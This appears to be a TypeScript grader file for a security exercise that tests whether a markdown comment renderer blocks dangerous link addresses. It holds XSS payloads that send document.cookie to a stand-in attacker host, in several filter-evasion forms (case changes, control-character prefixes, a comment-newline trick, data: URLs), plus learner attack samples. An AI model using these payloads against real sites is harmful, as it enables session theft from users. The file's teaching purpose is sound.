import assert from 'node:assert/strict'
import vm from 'node:vm'
import { scriptsOf, tagsOf } from '#proof/page'

type Code = typeof import('./render-comment.ts')

const render = ({ renderComment }: Code, source: string) =>
  renderComment({ id: 12, author: 'Ada <ada@example.com>', writtenAt: new Date(0), source })

export async function works(code: Code) {
  const html = render(code, 'See [the guide](https://example.com/guide?a=1&b=2), `a<b>` and\nask @grace-h.\n\n<b>Bye</b>')
  const tags = tagsOf(html)
  const links = tags.filter(({ name }) => name === 'a')
  assert.deepEqual(
    links.map(({ attributes, text }) => [attributes.href, text]),
    [
      ['https://example.com/guide?a=1&b=2', 'the guide'],
      ['/people/grace-h', '@grace-h'],
    ],
  )
  assert.equal(tags.find(({ name }) => name === 'code')?.text, 'a<b>')
  assert.equal(tags.filter(({ name }) => name === 'p').length, 2)
  assert.ok(html.includes('&lt;b&gt;Bye'))
  assert.ok(html.includes('Ada &lt;ada@example.com&gt;'))
}

/** Does what a browser does at a click on a `javascript:` link: parses the address, decodes the rest and runs it. */
function click(address: string): string {
  const page = { location: '', document: { cookie: 'session=5e1f' } }
  vm.runInNewContext(decodeURIComponent(new URL(address).href.slice('javascript:'.length)), page)
  return page.location
}

const steal = `location='https://attacker.example/?'+document.cookie`
const forms = [
  `javascript:${steal}`,
  `JavaScript:${steal}`,
  `\u0001javascript:${steal}`,
  `javascript://example.com/%0a${steal}`,
  `data:text/html,<script>${steal}</script>`,
]

export async function exploit(code: Code, _vary?: unknown, payloads = forms): Promise<boolean> {
  return payloads.some((target) => {
    const scripts = scriptsOf(render(code, `See the [release notes](${target})`))
    return scripts.some((address) => click(address).endsWith('session=5e1f'))
  })
}

// Attack mode: the learner writes the input.
export async function attack({ renderComment }: Code, input: { comment: string }, vary: import('#proof/vary').Vary) {
  try {
    const html = renderComment({ id: vary.number(10, 99), author: vary.name(), writtenAt: new Date(0), source: input.comment })
    const scripts = scriptsOf(html)
    const lines = scripts.map((script) => `A click runs: ${script}`)
    return { isDone: scripts.length > 0, shown: [html, '', ...(lines.length > 0 ? lines : ['Nothing in this page runs a script.'])].join('\n') }
  } catch (error) {
    return { isDone: false, shown: String(error) }
  }
}

export const attacks = [
  { input: { comment: 'See [the guide](javascript:alert(document.cookie)).' }, isDone: true },
  { input: { comment: 'See [the guide](https://example.com/guide).' }, isDone: false },
  { input: { comment: '<script>alert(1)</script>' }, isDone: false },
]
